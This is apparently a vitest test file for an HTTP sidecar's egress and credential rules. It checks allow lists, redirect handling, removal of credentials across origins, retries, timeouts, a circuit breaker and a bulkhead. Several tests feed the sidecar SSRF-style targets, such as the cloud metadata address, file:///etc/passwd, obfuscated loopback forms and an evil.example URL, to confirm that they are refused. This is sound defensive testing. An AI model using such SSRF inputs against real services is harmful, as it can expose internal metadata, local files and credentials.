import { createHash } from 'node:crypto';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { waitFor } from '../harness/pod.ts';
import { pairs } from './http-contract.ts';
import { type Echo, startUpstream, type UpstreamServer } from './http-server.ts';
import { openSidecar, type SidecarTarget } from './target.ts';

let home: UpstreamServer;
let other: UpstreamServer;
let target: SidecarTarget;
let deadPort: number;
beforeAll(async () => {
  [home, other, deadPort] = await Promise.all([startUpstream(), startUpstream(), unusedPort()]);
  const baseUrl = `${home.url}/base`;
  const headers = { Authorization: 'Bearer operator', 'x-api-key': 'secret' };
  target = await openSidecar({
    http: {
      strict: { baseUrl, headers, policy: { timeoutMs: 1_500, retry: { attempts: 2, baseMs: 10 } } },
      named: { baseUrl, allow: [`localhost:${other.port}`, `[::ffff:127.0.0.1]:${other.port}`, '*.example.com'] },
      open: { baseUrl, headers, allow: [`localhost:${other.port}`], allowPrivate: true },
      userinfo: { baseUrl: baseUrl.replace('//', '//user:p%40ss@') },
      dead: { baseUrl: `http://127.0.0.1:${deadPort}`, policy: { retry: { attempts: 0 } } },
      fragile: { baseUrl: home.url, policy: { breaker: { failures: 2, openMs: 300 }, retry: { attempts: 0 } } },
      narrow: { baseUrl: home.url, policy: { bulkhead: { concurrency: 4, queue: 4 } } },
    },
  });
});
afterAll(async () => {
  await target?.close();
  await Promise.all([home?.close(), other?.close()]);
});

const redirectTo = (location: string, status = 302): string =>
  `/redirect?status=${status}&to=${encodeURIComponent(location)}`;
const headersOf = async (response: Response): Promise<Record<string, string>> =>
  Object.fromEntries(pairs(((await response.json()) as Echo).headers));

describe('egress', () => {
  const denied = { code: 'PERMISSION_DENIED', reason: 'egress-denied' };

  it('refuses a whole URL of another host, and names the line to add', async () => {
    const failed = target.bottle.http('strict').fetch('https://evil.example/x?token=secret');
    await expect(failed).rejects.toMatchObject(denied);
    await expect(failed).rejects.toThrow('allow: ["evil.example"]');
    await expect(failed).rejects.not.toThrow('token');
  });
  it('refuses another port of the same host, and another path of it', async () => {
    const { fetch } = target.bottle.http('strict');
    await expect(fetch(`${other.url}/echo`)).rejects.toMatchObject(denied);
    await expect(fetch(`${home.url}/echo`)).rejects.toMatchObject(denied);
  });
  it.each([
    'http://169.254.169.254/latest/meta-data',
    '//evil.example/',
    'http://localhost/',
    'http://[::1]/',
    'file:///etc/passwd',
  ])('refuses a redirect to %s', async (location) => {
    await expect(target.bottle.http('strict').fetch(redirectTo(location))).rejects.toMatchObject(denied);
  });
  it('refuses a redirect to another port of the loopback interface, however it is written', async () => {
    for (const host of ['127.0.0.1', '2130706433', '0x7f.1', '127.1']) {
      const location = `http://${host}:${other.port}/echo`;
      await expect(target.bottle.http('strict').fetch(redirectTo(location))).rejects.toMatchObject(denied);
    }
  });
  it('refuses an allowed name that resolves to a private address, and an allowed address that is one', async () => {
    const before = other.requests.length;
    for (const host of ['localhost', '[::ffff:127.0.0.1]']) {
      const failed = target.bottle.http('named').fetch(`http://${host}:${other.port}/echo`);
      await expect(failed).rejects.toMatchObject(denied);
      await expect(failed).rejects.toThrow('allowPrivate: true');
    }
    expect(other.requests.length).toBe(before);
  });
  it('reaches it with allowPrivate', async () => {
    const response = await target.bottle.http('open').fetch(redirectTo(`http://localhost:${other.port}/echo`));
    expect(response).toMatchObject({ status: 200, redirected: true });
  });
});

describe('credentials', () => {
  it('are added for the base URL’s origin, whatever the function sent', async () => {
    const sent = await headersOf(
      await target.bottle.http('strict').fetch('/echo', { headers: { authorization: 'mine', 'X-API-Key': 'mine' } }),
    );
    expect(sent).toMatchObject({ authorization: 'Bearer operator', 'x-api-key': 'secret' });
  });
  it('of the base URL are a header, and do not show in the response', async () => {
    const response = await target.bottle.http('userinfo').fetch('/echo');
    expect(response.url).toBe(`${home.url}/base/echo`);
    expect((await headersOf(response))['authorization']).toBe(`Basic ${Buffer.from('user:p@ss').toString('base64')}`);
  });
  it('never leave with a redirect to another host, the function’s own as little as the operator’s', async () => {
    const path = redirectTo(`http://localhost:${other.port}/echo`);
    const own = { cookie: 'a=1', authorization: 'mine', 'x-own': 'stays' };
    const sent = await headersOf(await target.bottle.http('open').fetch(path, { headers: own }));
    expect(sent).toMatchObject({ 'x-own': 'stays' });
    for (const name of ['authorization', 'x-api-key', 'cookie']) expect(sent).not.toHaveProperty(name);
  });
  it('do not come back when another host redirects home', async () => {
    const back = `${home.url}/base/echo`;
    const away = `http://localhost:${other.port}${redirectTo(back)}`;
    expect(await headersOf(await target.bottle.http('open').fetch(redirectTo(away)))).not.toHaveProperty(
      'authorization',
    );
  });
  it('go along with a redirect on the same origin', async () => {
    const sent = await headersOf(await target.bottle.http('strict').fetch(redirectTo('/base/echo')));
    expect(sent['authorization']).toBe('Bearer operator');
  });
  it('are not for whole URLs of other hosts', async () => {
    const response = await target.bottle.http('open').fetch(`http://localhost:${other.port}/echo`);
    expect(await headersOf(response)).not.toHaveProperty('x-api-key');
  });
});

describe('repeats', () => {
  let unique = 0;
  const flaky = (times: number, rest = ''): string => `/flaky?key=${(unique += 1)}&times=${times}${rest}`;
  const countOf = (request: string): number => home.requests.filter((each) => each === request).length;

  it('of a GET go on until it is answered, as often as the policy says', async () => {
    expect(await (await target.bottle.http('strict').fetch(flaky(2))).text()).toBe('3');
    expect((await target.bottle.http('strict').fetch(flaky(3))).status).toBe(503);
  });
  it('of a POST there are none', async () => {
    expect((await target.bottle.http('strict').fetch(flaky(1), { method: 'POST', body: 'x' })).status).toBe(503);
    const before = countOf('POST /base/reset');
    await expect(target.bottle.http('strict').fetch('/reset', { method: 'POST' })).rejects.toMatchObject({
      code: 'UNKNOWN',
      reason: 'outcome-unknown',
      details: { resource: 'http.strict', operation: 'fetch', outcome: 'unknown', retryable: false },
    });
    expect(countOf('POST /base/reset')).toBe(before + 1);
  });
  it('follow a broken connection', async () => {
    const before = countOf('GET /base/reset');
    await expect(target.bottle.http('strict').fetch('/reset')).rejects.toMatchObject({ code: 'UNAVAILABLE' });
    expect(countOf('GET /base/reset')).toBe(before + 3);
  });
  it('wait as long as the upstream asks for', async () => {
    const startedAt = performance.now();
    expect(await (await target.bottle.http('strict').fetch(flaky(1, '&after=1'))).text()).toBe('2');
    expect(performance.now() - startedAt).toBeGreaterThan(950);
  });
  it('are given up at once when it asks for more time than there is', async () => {
    const startedAt = performance.now();
    expect((await target.bottle.http('strict').fetch(flaky(1, '&after=60'))).status).toBe(503);
    expect(performance.now() - startedAt).toBeLessThan(1_000);
  });
});

describe('an upstream that fails', () => {
  it('is given up after the policy’s time when it hangs', async () => {
    const startedAt = performance.now();
    await expect(target.bottle.http('strict').fetch('/hang')).rejects.toMatchObject({
      code: 'DEADLINE_EXCEEDED',
      reason: 'resource-timeout',
    });
    expect(performance.now() - startedAt).toBeLessThan(2_500);
  });
  it('may take longer than that for its body', async () => {
    const response = await target.bottle.http('strict').fetch('/drip');
    const reader = response.body?.getReader();
    expect(Buffer.from((await reader?.read())?.value ?? '').toString()).toBe('first');
    const rest = reader?.read().then(() => 'more');
    expect(await Promise.race([rest, new Promise((resolve) => setTimeout(resolve, 1_800, 'waiting'))])).toBe('waiting');
    await reader?.cancel();
  });
  it('says why it cannot be reached, without its address', async () => {
    const failed = target.bottle.http('dead').fetch('/x');
    await expect(failed).rejects.toMatchObject({
      code: 'UNAVAILABLE',
      reason: 'resource-unavailable',
      details: { driverCode: 'ECONNREFUSED' },
    });
    await expect(failed).rejects.not.toThrow(String(deadPort));
  });
  it('refuses a redirect that would send a large body twice, and follows one that comes early enough', async () => {
    const init = { method: 'POST', body: Buffer.alloc(1024 * 1024, 'x') };
    const late = target.bottle.http('strict').fetch(`${redirectTo('/base/echo', 307)}&late`, init);
    await expect(late).rejects.toMatchObject({ reason: 'bad-redirect' });
    async function* slowly(): AsyncGenerator<Uint8Array> {
      yield init.body.subarray(0, 1_000);
      await waitFor(() => home.requests.includes('POST /base/echo'), 5_000);
      yield init.body.subarray(1_000);
    }
    const path = redirectTo('/base/echo', 307);
    const echo = (await (
      await target.bottle.http('strict').fetch(path, { method: 'POST', body: slowly() })
    ).json()) as Echo;
    expect(echo.sha256).toBe(createHash('sha256').update(init.body).digest('hex'));
  });
  it('opens the breaker, which closes again by itself', async () => {
    const { fetch } = target.bottle.http('fragile');
    for (let at = 0; at < 2; at++) await expect(fetch('/reset')).rejects.toMatchObject({ code: 'UNAVAILABLE' });
    await expect(fetch('/echo')).rejects.toMatchObject({ reason: 'breaker-open' });
    await new Promise((resolve) => setTimeout(resolve, 350));
    expect((await fetch('/echo')).status).toBe(200);
    expect((await fetch('/echo')).status).toBe(200);
  });
  it('is asked for no more at once than the policy allows', async () => {
    const { fetch } = target.bottle.http('narrow');
    const before = home.requests.length;
    const controller = new AbortController();
    const all = Array.from({ length: 20 }, () =>
      fetch('/hang', { signal: controller.signal }).catch((error: unknown) => error),
    );
    const refused = await Promise.all(all.slice(8));
    for (const error of refused) expect(error).toMatchObject({ code: 'RESOURCE_EXHAUSTED', reason: 'bulkhead-full' });
    await waitFor(() => home.requests.length === before + 4, 5_000);
    controller.abort();
    await Promise.all(all);
    expect((await fetch('/echo')).status).toBe(200);
  });
});

it('tells the lines to add when there is no such upstream', async () => {
  await expect(target.bottle.http('unknown').fetch('/x')).rejects.toMatchObject({
    code: 'NOT_FOUND',
    reason: 'no-resource',
  });
  await expect(target.bottle.http('unknown').fetch('/x')).rejects.toThrow(
    'resources: { http: { unknown: { baseUrl: … } } }',
  );
});

/** A port that nobody listens on. */
async function unusedPort(): Promise<number> {
  const server = createServer();
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const { port } = server.address() as AddressInfo;
  await new Promise((resolve) => server.close(resolve));
  return port;
}
